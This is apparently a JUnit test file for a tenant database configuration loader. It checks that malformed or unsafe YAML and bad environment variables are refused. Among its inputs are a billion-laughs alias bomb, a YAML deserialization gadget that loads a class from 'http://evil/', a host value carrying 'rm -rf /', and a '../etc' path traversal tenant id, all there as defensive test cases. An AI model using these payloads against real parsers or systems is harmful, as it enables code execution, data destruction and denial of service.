package io.tenantdb.core.config;

import io.tenantdb.core.exception.ConfigException;
import io.tenantdb.core.exception.InvalidTenantException;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;

import static io.tenantdb.core.DatabaseType.POSTGRESQL;
import static io.tenantdb.core.DatabaseType.REDIS;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Everything the loader refuses, each with the file, line and column in the message. */
class ConfigRefusalTest {

    @TempDir
    Path tmp;
    ConfigDir dir;

    @BeforeEach
    void base() {
        dir = new ConfigDir(tmp).write("postgresql.yml", ConfigDir.PG_BASE);
    }

    private AbstractThrowableAssert<?, ? extends Throwable> refusedBase(String yaml) {
        dir.write("postgresql.yml", yaml);
        return refused(Map.of());
    }

    private AbstractThrowableAssert<?, ? extends Throwable> refused(Map<String, String> env) {
        return assertThatThrownBy(() -> dir.loader(env).loadDatabaseConfig(POSTGRESQL, "acme", "staging"))
                .isInstanceOf(ConfigException.class);
    }

    // ------------------------------------------------------------ unknown keys

    @Test
    void unknownTopLevelKey() {
        refusedBase(ConfigDir.PG_BASE + "conection:\n  hosts: []\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 1))
                .hasMessageContaining("unknown key 'conection'")
                .hasMessageContaining("known keys are connection, pool");
    }

    @Test
    void unknownNestedKey() {
        refusedBase(ConfigDir.PG_BASE + "pool:\n  max_size: 3\n  max_sise: 4\n")
                .hasMessageContaining(dir.at("postgresql.yml", 7, 3))
                .hasMessageContaining("pool.max_sise")
                .hasMessageContaining("[engine=postgresql]");
    }

    @Test
    void unknownKeyOfAnotherEngine() {
        refusedBase(ConfigDir.PG_BASE + "redis:\n  topology: cluster\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 1))
                .hasMessageContaining("unknown key 'redis'");
    }

    @Test
    void unknownKeyInTheOverrideFile() {
        dir.write("overrides/staging_postgresql.yml", "pool:\n  size: 3\n");
        refused(Map.of()).hasMessageContaining(dir.at("overrides/staging_postgresql.yml", 2, 3))
                .hasMessageContaining("pool.size");
    }

    @Test
    void unknownKeyInTheTenantFile() {
        dir.write("tenants/acme/postgresql.yml", "tenant_isolation:\n  strategy: database_per_tenant\n  mode: x\n");
        refused(Map.of()).hasMessageContaining(dir.at("tenants/acme/postgresql.yml", 3, 3))
                .hasMessageContaining("tenant_isolation.mode");
    }

    @Test
    void unknownKeyInANode() {
        refusedBase("connection:\n  hosts:\n    - host: a\n      prot: 5432\n")
                .hasMessageContaining(dir.at("postgresql.yml", 4, 7))
                .hasMessageContaining("unknown key 'prot'");
    }

    // ------------------------------------------------------------ wrong types and values

    @Test
    void wrongTypes() {
        refusedBase(ConfigDir.PG_BASE + "pool:\n  max_size: ten\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 13))
                .hasMessageContaining("pool.max_size: expected a decimal integer, found the string 'ten'");
        refusedBase("connection:\n  hosts: db1:5432\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 10))
                .hasMessageContaining("connection.hosts: expected a list");
        refusedBase(ConfigDir.PG_BASE + "  options: {a: [1]}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 16))
                .hasMessageContaining("connection.options.a: expected a scalar value");
        refusedBase(ConfigDir.PG_BASE + "pool: 5\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 7))
                .hasMessageContaining("pool: expected a section");
        refusedBase(ConfigDir.PG_BASE + "  tls: {enabled: maybe}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 18))
                .hasMessageContaining("connection.tls.enabled: expected true or false");
        refusedBase(ConfigDir.PG_BASE + "  user: yes\n")
                .hasMessageContaining("duplicate key 'user'");
        refusedBase("connection:\n  hosts: [a]\n  user: yes\n")
                .hasMessageContaining(dir.at("postgresql.yml", 3, 9))
                .hasMessageContaining("quote it");
    }

    @Test
    void unknownEnumValues() {
        refusedBase(ConfigDir.PG_BASE + "tenant_isolation:\n  strategy: shared\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 13))
                .hasMessageContaining("use one of database_per_tenant, schema_per_tenant, row_level_security");
        refusedBase(ConfigDir.PG_BASE + "load_balancing: {strategy: random}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 28));
        refusedBase(ConfigDir.PG_BASE + "postgresql: {ssl_mode: sometimes}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 24));
    }

    @Test
    void invalidDurations() {
        refusedBase(ConfigDir.PG_BASE + "  connect_timeout: 10x\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 20))
                .hasMessageContaining("invalid duration '10x'");
        refusedBase(ConfigDir.PG_BASE + "pool: {acquire_timeout: -5s}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 25));
        refusedBase(ConfigDir.PG_BASE + "pool: {acquire_timeout: true}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 25));
        refusedBase(ConfigDir.PG_BASE + "pool: {acquire_timeout: 1.5s}\n")
                .hasMessageContaining("invalid duration");
    }

    @Test
    void outOfRangePortsAndNumbers() {
        refusedBase("connection:\n  hosts: [\"db:70000\"]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 11))
                .hasMessageContaining("connection.hosts[0]: port must be 1..65535, was 70000");
        refusedBase("connection:\n  hosts:\n    - host: db\n      port: 0\n")
                .hasMessageContaining(dir.at("postgresql.yml", 4, 13))
                .hasMessageContaining("connection.hosts[0].port: must be 1..65535, was 0");
        refusedBase("connection:\n  hosts: [\"db:-1\"]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 11));
        refusedBase(ConfigDir.PG_BASE + "replicas: [\"r:65536\"]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 12));
        refusedBase(ConfigDir.PG_BASE + "monitoring: {thresholds: {cache_hit_ratio: 1.5}}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 44))
                .hasMessageContaining("must be between 0 and 1");
        refusedBase(ConfigDir.PG_BASE + "pool: {max_size: 0}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 18));
    }

    @Test
    void invalidHostNames() {
        refusedBase("connection:\n  hosts: [\"user@db:5432\"]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 11))
                .hasMessageContaining("invalid host name");
        refusedBase("connection:\n  hosts: [\"db; rm -rf /\"]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 11));
    }

    @Test
    void combinationsThatCannotWork() {
        refusedBase(ConfigDir.PG_BASE + "pool:\n  initial_size: 20\n  max_size: 5\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 3))
                .hasMessageContaining("initial_size must be 0..max_size");
        refusedBase(ConfigDir.PG_BASE + "tenant_isolation:\n  prefix: tenants_\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 11))
                .hasMessageContaining("{{tenant_id}}");
        refusedBase(ConfigDir.PG_BASE + "tenant_isolation:\n  prefix: \"t-{{tenant_id}}\"\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 11));
        refusedBase(ConfigDir.PG_BASE + "shards:\n  - {name: a, hosts: [x]}\n  - {name: a, hosts: [y]}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 7, 6))
                .hasMessageContaining("duplicate shard name 'a'");
        dir.write("redis.yml", "connection: {hosts: [r]}\nredis:\n  topology: sentinel\n");
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig(REDIS, null, "production"))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining(dir.at("redis.yml", 3, 3))
                .hasMessageContaining("sentinel_master");
    }

    // ------------------------------------------------------------ required values

    @Test
    void missingHosts() {
        refusedBase("connection:\n  database: app\n")
                .hasMessageContaining(tmp.resolve("postgresql.yml").toString())
                .hasMessageContaining(":2:3")
                .hasMessageContaining("connection.hosts is required");
        refusedBase("pool: {max_size: 3}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 1, 1))
                .hasMessageContaining("connection.hosts is required");
        refusedBase("connection:\n  hosts: []\n")
                .hasMessageContaining(dir.at("postgresql.yml", 2, 10))
                .hasMessageContaining("connection.hosts must not be empty");
        refusedBase(ConfigDir.PG_BASE + "shards:\n  - name: a\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 5))
                .hasMessageContaining("shards[0].hosts is required");
    }

    @Test
    void aHigherLayerCannotRemoveRequiredValues() {
        dir.write("tenants/acme/postgresql.yml", "connection:\n  hosts: ~\n");
        refused(Map.of()).hasMessageContaining("connection.hosts is required");
    }

    @Test
    void missingBaseFile() {
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig(REDIS, null, "production"))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining(tmp.resolve("redis.yml").toString())
                .hasMessageContaining("file not found");
    }

    // ------------------------------------------------------------ layout

    @Test
    void unknownEngineAndEnvironment() {
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig(POSTGRESQL, null, "prod"))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("unknown environment 'prod'")
                .hasMessageContaining("production, development, staging, testing");
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig(POSTGRESQL, null, null))
                .isInstanceOf(ConfigException.class);
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig("postgres", null, "production"))
                .isInstanceOf(ConfigException.class)
                .hasMessageContaining("unknown engine 'postgres'");
    }

    @Test
    void misnamedFilesAreRefusedNotIgnored() {
        dir.write("overrides/prod_postgresql.yml", "pool: {max_size: 1}\n");
        refused(Map.of()).hasMessageContaining(tmp.resolve("overrides/prod_postgresql.yml").toString())
                .hasMessageContaining("unknown override file");
        tmp.resolve("overrides/prod_postgresql.yml").toFile().delete();

        dir.write("overrides/staging_postgres.yml", "pool: {max_size: 1}\n");
        refused(Map.of()).hasMessageContaining("staging_postgres.yml");
        tmp.resolve("overrides/staging_postgres.yml").toFile().delete();

        dir.write("overrides/production_postgresql.yml", "pool: {max_size: 1}\n");
        refused(Map.of()).hasMessageContaining("production is the base file");
        tmp.resolve("overrides/production_postgresql.yml").toFile().delete();

        dir.write("postgres.yml", ConfigDir.PG_BASE);
        refused(Map.of()).hasMessageContaining(tmp.resolve("postgres.yml").toString())
                .hasMessageContaining("unknown engine file");
        tmp.resolve("postgres.yml").toFile().delete();

        dir.write("redis.yaml", ConfigDir.PG_BASE);
        refused(Map.of()).hasMessageContaining(tmp.resolve("redis.yaml").toString())
                .hasMessageContaining(".yml");
        tmp.resolve("redis.yaml").toFile().delete();

        dir.write("tenants/acme/postgres.yml", "pool: {max_size: 1}\n");
        refused(Map.of()).hasMessageContaining(tmp.resolve("tenants/acme/postgres.yml").toString())
                .hasMessageContaining("unknown tenant file");
    }

    @Test
    void tenantDirectoriesMustBeValidTenantIds() {
        for (String bad : new String[] {"Spotify", "spotify-premium", "1tenant", "_x", "t\u0430"}) {
            ConfigDir d = new ConfigDir(tmp.resolve(Integer.toHexString(bad.hashCode())))
                    .write("postgresql.yml", ConfigDir.PG_BASE)
                    .write("tenants/" + bad + "/postgresql.yml", "pool: {max_size: 1}\n");
            assertThatThrownBy(() -> d.loader().loadDatabaseConfig(POSTGRESQL, null, "production"))
                    .as(bad)
                    .isInstanceOf(ConfigException.class)
                    .hasMessageContaining(d.root.resolve("tenants").toString())
                    .hasMessageContaining("is not a valid tenant id");
            assertThatThrownBy(() -> d.loader().tenants()).isInstanceOf(ConfigException.class);
        }
    }

    @Test
    void theTenantArgumentMustBeAValidTenantId() {
        assertThatThrownBy(() -> dir.loader().loadDatabaseConfig(POSTGRESQL, "../etc", "production"))
                .isInstanceOf(InvalidTenantException.class);
    }

    // ------------------------------------------------------------ unsafe YAML

    @Test
    void duplicateKeys() {
        refusedBase(ConfigDir.PG_BASE + "pool:\n  max_size: 1\n  max_size: 2\n")
                .hasMessageContaining(dir.at("postgresql.yml", 7, 3))
                .hasMessageContaining("duplicate key 'max_size' (first at line 6)");
        refusedBase(ConfigDir.PG_BASE + "connection: {}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 1))
                .hasMessageContaining("duplicate key 'connection'");
    }

    @Test
    void billionLaughsIsRefusedAtTheFirstAlias() {
        StringBuilder bomb = new StringBuilder(ConfigDir.PG_BASE).append("  options:\n");
        bomb.append("    a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char p = (char) (c - 1);
            bomb.append("    ").append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ",").append('*').append(p);
            }
            bomb.append("]\n");
        }
        refusedBase(bomb.toString())
                .hasMessageContaining(dir.at("postgresql.yml", 7, 12))
                .hasMessageContaining("aliases (*a) are not allowed");
    }

    @Test
    void aliasesAndMergeKeysAreRefused() {
        refusedBase("defaults: &d {max_size: 3}\n" + ConfigDir.PG_BASE + "pool: *d\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 7))
                .hasMessageContaining("aliases");
        refusedBase(ConfigDir.PG_BASE + "pool:\n  <<: {max_size: 3}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 3))
                .hasMessageContaining("a key must be a plain string");
    }

    @Test
    void documentsOverOneMebibyteAreRefusedWithoutReadingThemWhole() {
        String line = "#" + "x".repeat(63) + "\n"; // 65 bytes
        int lines = 20_000; // ~1.24 MiB
        byte[] big = (ConfigDir.PG_BASE + line.repeat(lines)).getBytes(StandardCharsets.UTF_8);
        dir.write("postgresql.yml", big);
        int header = ConfigDir.PG_BASE.length();
        int commentBytes = ConfigLoader.MAX_DOCUMENT_BYTES - header;
        int expectedLine = 5 + commentBytes / 65;
        int expectedColumn = commentBytes % 65 + 1;
        refused(Map.of())
                .hasMessageContaining(dir.at("postgresql.yml", expectedLine, expectedColumn))
                .hasMessageContaining("larger than 1048576 bytes");
    }

    @Test
    void aDocumentJustUnderTheLimitLoads() {
        String line = "#" + "x".repeat(63) + "\n";
        int lines = (ConfigLoader.MAX_DOCUMENT_BYTES - ConfigDir.PG_BASE.length()) / line.length();
        dir.write("postgresql.yml", ConfigDir.PG_BASE + line.repeat(lines));
        assertThat(dir.loader().loadDatabaseConfig(POSTGRESQL, null, "production").connection().hosts()).hasSize(1);
    }

    @Test
    void tooManyValuesAreRefused() {
        refusedBase(ConfigDir.PG_BASE + "  options: {a: [" + "1,".repeat(200_000) + "1]}\n")
                .hasMessageContaining(tmp.resolve("postgresql.yml") + ":5:")
                .hasMessageContaining("more than 100000 values");
    }

    @Test
    void deepNestingIsRefused() {
        refusedBase(ConfigDir.PG_BASE + "  options: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 30)) // the 19th [ is the 21st level
                .hasMessageContaining("nesting deeper than 20");
        StringBuilder block = new StringBuilder(ConfigDir.PG_BASE).append("  options:\n");
        for (int i = 0; i < 25; i++) {
            block.append("  ".repeat(i + 2)).append("k").append(i).append(":\n");
        }
        refusedBase(block.toString()).hasMessageContaining("nesting deeper than 20")
                .hasMessageContaining(tmp.resolve("postgresql.yml") + ":");
    }

    @Test
    void tagsAreRefused() {
        refusedBase(ConfigDir.PG_BASE + "pool: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 7))
                .hasMessageContaining("YAML tags")
                .hasMessageContaining("are not allowed");
        refusedBase(ConfigDir.PG_BASE + "pool:\n  max_size: !!int 3\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 13));
        refusedBase(ConfigDir.PG_BASE + "pool: !custom {max_size: 3}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 7));
    }

    @Test
    void nonStringKeysAreRefused() {
        refusedBase(ConfigDir.PG_BASE + "pool:\n  1: 3\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 3))
                .hasMessageContaining("a key must be a plain string")
                .hasMessageContaining("an integer key '1'");
        refusedBase(ConfigDir.PG_BASE + "pool:\n  true: 3\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 3));
        refusedBase(ConfigDir.PG_BASE + "pool:\n  ~: 3\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 3));
        refusedBase(ConfigDir.PG_BASE + "pool:\n  ? [a, b]\n  : 3\n")
                .hasMessageContaining(dir.at("postgresql.yml", 6, 5));
        refusedBase(ConfigDir.PG_BASE + "\"pool\": {max_size: 3}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 1));
    }

    @Test
    void malformedDocuments() {
        refusedBase(ConfigDir.PG_BASE + "---\npool: {}\n")
                .hasMessageContaining(dir.at("postgresql.yml", 5, 1))
                .hasMessageContaining("one YAML document");
        refusedBase("- connection\n- pool\n")
                .hasMessageContaining(dir.at("postgresql.yml", 1, 1))
                .hasMessageContaining("the top level must be a mapping");
        refusedBase(ConfigDir.PG_BASE + "pool: {max_size: 3\n")
                .hasMessageContaining(tmp.resolve("postgresql.yml") + ":")
                .hasMessageContaining("invalid YAML");
        dir.write("postgresql.yml", new byte[] {'c', ':', ' ', (byte) 0xC3, (byte) 0x28});
        refused(Map.of()).hasMessageContaining(dir.at("postgresql.yml", 1, 1)).hasMessageContaining("not valid UTF-8");
        refusedBase(ConfigDir.PG_BASE + "  user: \"a\u0000b\"\n")
                .hasMessageContaining(tmp.resolve("postgresql.yml") + ":5:");
    }

    @Test
    void hiddenFilesAreIgnored() {
        dir.write(".postgresql.yml.swp", "garbage: [").write("tenants/.DS_Store", "x").write("overrides/.keep", "");
        assertThat(dir.loader().loadDatabaseConfig(POSTGRESQL, null, "staging").pool()).isEqualTo(PoolConfig.DEFAULT);
    }

    @Test
    void anEmptyOverrideIsNoOverride() {
        dir.write("overrides/staging_postgresql.yml", "");
        dir.write("tenants/acme/postgresql.yml", "# nothing yet\n");
        assertThat(dir.loader().loadDatabaseConfig(POSTGRESQL, "acme", "staging").pool()).isEqualTo(PoolConfig.DEFAULT);
    }

    // ------------------------------------------------------------ environment variables

    @Test
    void unknownVariablesInTheConfigurationNamespaceAreRefused() {
        refused(Map.of("TENANTDB_POSTGRESQL_POOL_MAX_SISE", "3"))
                .hasMessageContaining("environment variable TENANTDB_POSTGRESQL_POOL_MAX_SISE")
                .hasMessageContaining("under pool");
        refused(Map.of("TENANTDB_POSTGRESQL_NOPE", "3"))
                .hasMessageContaining("environment variable TENANTDB_POSTGRESQL_NOPE");
        // a typo for another engine is caught whichever engine loads
        refused(Map.of("TENANTDB_REDIS_REDIS_TOPOLGY", "cluster"))
                .hasMessageContaining("TENANTDB_REDIS_REDIS_TOPOLGY");
        refused(Map.of("TENANTDB_POSTGRESQL_POOL", "3"))
                .hasMessageContaining("a section cannot be set from an environment variable");
        refused(Map.of("TENANTDB_POSTGRESQL_SHARDS", "a"))
                .hasMessageContaining("cannot be set from an environment variable");
        refused(Map.of("TENANTDB_POSTGRESQL_CONNECTION_OPTIONS", "a=b"))
                .hasMessageContaining("cannot be set from an environment variable");
    }

    @Test
    void variablesAreCheckedLikeFiles() {
        refused(Map.of("TENANTDB_POSTGRESQL_POOL_MAX_SIZE", "many"))
                .hasMessageContaining("environment variable TENANTDB_POSTGRESQL_POOL_MAX_SIZE: pool.max_size: expected a decimal integer");
        refused(Map.of("TENANTDB_POSTGRESQL_CONNECTION_CONNECT_TIMEOUT", "10x"))
                .hasMessageContaining("invalid duration '10x'");
        refused(Map.of("TENANTDB_POSTGRESQL_CONNECTION_HOSTS", "a:1,,b"))
                .hasMessageContaining("empty item");
        refused(Map.of("TENANTDB_POSTGRESQL_CONNECTION_HOSTS", "a:99999"))
                .hasMessageContaining("port must be 1..65535");
    }
}
